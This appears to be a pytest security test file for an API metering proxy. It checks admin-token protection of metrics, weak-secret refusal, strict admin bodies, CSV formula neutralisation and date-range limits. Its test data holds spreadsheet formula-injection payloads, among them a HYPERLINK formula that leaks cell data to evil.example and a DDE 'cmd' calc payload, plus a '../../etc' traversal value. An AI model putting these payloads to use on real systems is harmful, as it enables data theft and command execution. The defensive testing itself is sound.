"""The operator's surfaces under hostile input: /metrics is not public, meter will not run with a weak
admin token, admin bodies refuse fields they do not know (a typo must not silently set nothing), a
statement's CSV cannot run as a spreadsheet formula, and periods past what dates hold are a 400."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.security.checks import anthropic_error
from tests.support import ADMIN_TOKEN, Admin, Ledger, Process

BODY: dict[str, Any] = {"max_tokens": 5, "messages": [{"role": "user", "content": "hi"}]}


def test_metrics_on_the_main_port_need_the_admin_token(meter: Process, tenant_key: dict[str, Any]) -> None:
    for headers in (
        {},
        {"authorization": "Bearer wrong-token-wrong-token-wrong-token"},
        {"authorization": f"Bearer {tenant_key['key']}"},
        {"x-api-key": tenant_key["key"]},
        {"authorization": f"Basic {ADMIN_TOKEN}"},
        {"authorization": f"Bearer {ADMIN_TOKEN[:-1]}"},
    ):
        response = httpx.get(meter.base_url + "/metrics", headers=headers)
        assert response.status_code == 401, headers
        anthropic_error(response.status_code, response.headers, response.content, "authentication_error")
        assert "meter_requests_total" not in response.text
    response = httpx.get(meter.base_url + "/metrics", headers={"authorization": f"Bearer {ADMIN_TOKEN}"})
    assert response.status_code == 200
    assert "meter_requests_total" in response.text


def test_metrics_on_the_metrics_address_need_no_token(meter: Process) -> None:
    response = httpx.get(meter.metrics_url)
    assert response.status_code == 200
    assert "meter_requests_total" in response.text


@pytest.mark.parametrize(
    ("variable", "value", "message"),
    [
        ("METER_ADMIN_TOKEN", "", "METER_ADMIN_TOKEN is set but empty"),
        ("METER_ADMIN_TOKEN", "short-admin-token", "METER_ADMIN_TOKEN must be at least 32 characters"),
        ("METER_ADMIN_TOKEN", "x" * 31, "METER_ADMIN_TOKEN must be at least 32 characters"),
        ("METER_KEY_PEPPER", "short-pepper", "METER_KEY_PEPPER must be at least 32 characters"),
    ],
)
def test_meter_refuses_to_start_with_a_weak_secret(variable: str, value: str, message: str, tmp_path: Path) -> None:
    env = {
        **os.environ,
        "METER_DATA_DIR": str(tmp_path),
        # Nothing listens there: a meter that went on would fail differently, not start.
        "METER_DATABASE_URL": "postgresql://meter@127.0.0.1:1/meter",
        "METER_UPSTREAM_API_KEY": "sk-ant-test",
        "METER_ADMIN_TOKEN": ADMIN_TOKEN,
        "METER_KEY_PEPPER": "meter-test-key-pepper-0123456789abcdef",
        variable: value,
    }
    done = subprocess.run(
        [sys.executable, "-m", "meter", "serve", "--port", "1"], env=env, capture_output=True, text=True, timeout=60
    )
    assert done.returncode == 2, done.stderr
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and message in lines[0], done.stderr
    assert "Traceback" not in done.stderr + done.stdout


# (method, path, body, the unknown field): every strict admin body, with a plausible typo.
UNKNOWN_FIELDS = [
    ("PUT", "/admin/tenants/{tenant}/limits", {"budget_usd_per_mnth": "1"}, "budget_usd_per_mnth"),
    ("PUT", "/admin/keys/{key}/limits", {"requests_per_minute": 5, "request_per_min": 1}, "request_per_min"),
    ("POST", "/admin/tenants", {"name": "typo", "status": "suspended"}, "status"),
    ("PATCH", "/admin/tenants/{tenant}", {"stauts": "suspended"}, "stauts"),
    ("POST", "/admin/tenants/{tenant}/keys", {"name": "k", "allowed_model": ["claude-opus-4-1"]}, "allowed_model"),
    ("POST", "/admin/keys/{key}/rotate", {"grace_period": 0}, "grace_period"),
    ("POST", "/admin/tenants/{tenant}/credits", {"amount_usd": "5", "notes": "typo"}, "notes"),
    (
        "PUT",
        "/admin/prices",
        {"prices": [{"model": "typo-model", "input_per_mtok": "1", "output_per_mtok": "2", "cache_read": "0.1"}]},
        "cache_read",
    ),
]


@pytest.mark.parametrize(("method", "path", "body", "field"), UNKNOWN_FIELDS, ids=[f[3] for f in UNKNOWN_FIELDS])
def test_admin_bodies_refuse_unknown_fields_by_name_and_change_nothing(
    method: str, path: str, body: dict[str, Any], field: str, admin: Admin, tenant_key: dict[str, Any]
) -> None:
    tenant, key = tenant_key["tenant_id"], tenant_key["id"]
    before = state(admin, tenant, key)
    response = admin.request(method, path.format(tenant=tenant, key=key), json=body)
    assert response.status_code == 400, response.text
    message = anthropic_error(response.status_code, response.headers, response.content, "invalid_request_error")
    assert field in message, message
    assert state(admin, tenant, key) == before


def state(admin: Admin, tenant: str, key: str) -> dict[str, Any]:
    """What the bodies above could have changed."""
    reads = {
        "tenant": f"/admin/tenants/{tenant}",
        "tenant limits": f"/admin/tenants/{tenant}/limits",
        "key limits": f"/admin/keys/{key}/limits",
        "keys": f"/admin/tenants/{tenant}/keys",
        "balance": f"/admin/tenants/{tenant}/balance",
    }
    found = {name: admin.request("GET", path).json() for name, path in reads.items()}
    found["typo-model priced"] = "typo-model" in admin.request("GET", "/admin/prices").text
    found["tenants"] = tenant_count(admin)
    return found


def tenant_count(admin: Admin) -> int:
    count, cursor = 0, None
    while True:
        params = {"limit": 1000, **({"after": cursor} if cursor else {})}
        page = admin.request("GET", "/admin/tenants", params=params).json()
        count += len(page["data"])
        cursor = page["next_cursor"]
        if cursor is None or not page["data"]:
            return count


def test_the_same_bodies_spelled_right_are_applied(admin: Admin, tenant_key: dict[str, Any]) -> None:
    """The control: it is the unknown field that is refused, not the request."""
    path = f"/admin/tenants/{tenant_key['tenant_id']}/limits"
    response = admin.request("PUT", path, json={"budget_usd_per_month": "1"})
    assert response.status_code == 200, response.text
    assert admin.request("GET", path).json()["budget_usd_per_month"] == "1.00"


FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open statement")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
]


def test_statement_csv_cells_cannot_run_as_formulas(
    meter: Process, admin: Admin, tenant_key: dict[str, Any], ledger: Ledger
) -> None:
    headers = {"x-api-key": tenant_key["key"], "anthropic-version": "2023-06-01"}
    for model in [*FORMULAS, "claude-sonnet-4-6"]:
        response = httpx.post(meter.base_url + "/v1/messages", json={**BODY, "model": model}, headers=headers)
        assert response.status_code == 200, response.text
        ledger.row(response.headers["x-meter-request-id"])
    month = datetime.now(UTC).strftime("%Y-%m")
    path = f"/admin/tenants/{tenant_key['tenant_id']}/statement"
    response = admin.request("GET", path, params={"month": month, "format": "csv"})
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text)))
    models = {row["model"] for row in rows if row["model"] != "TOTAL"}
    assert models == {"'" + model for model in FORMULAS} | {"claude-sonnet-4-6"}
    cells = [cell for row in rows for cell in row.values()]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    # The JSON statement, which no spreadsheet runs, keeps the names as they are.
    lines = admin.request("GET", path, params={"month": month}).json()["lines"]
    assert {line["model"] for line in lines} == {*FORMULAS, "claude-sonnet-4-6"}


def test_periods_past_what_a_date_holds_are_400(admin: Admin, tenant_key: dict[str, Any]) -> None:
    tenant = tenant_key["tenant_id"]
    statement, usage = f"/admin/tenants/{tenant}/statement", f"/admin/tenants/{tenant}/usage"
    for path, params in (
        (statement, {"month": "9999-12"}),
        (statement, {"month": "9999-12", "format": "csv"}),
        (statement, {"month": "10000-01"}),
        (statement, {"month": "2026-13"}),
        (statement, {"month": "../../etc"}),
        (usage, {"from": "9999-12-01"}),
        (usage, {"from": "9999-12-31"}),
    ):
        response = admin.request("GET", path, params=params)
        assert response.status_code == 400, (path, params, response.text)
        anthropic_error(response.status_code, response.headers, response.content, "invalid_request_error")
    # The control: the last month that has an end is served.
    assert admin.request("GET", statement, params={"month": "9999-11"}).status_code == 200
    assert admin.request("GET", usage, params={"from": "9999-11-01"}).status_code == 200
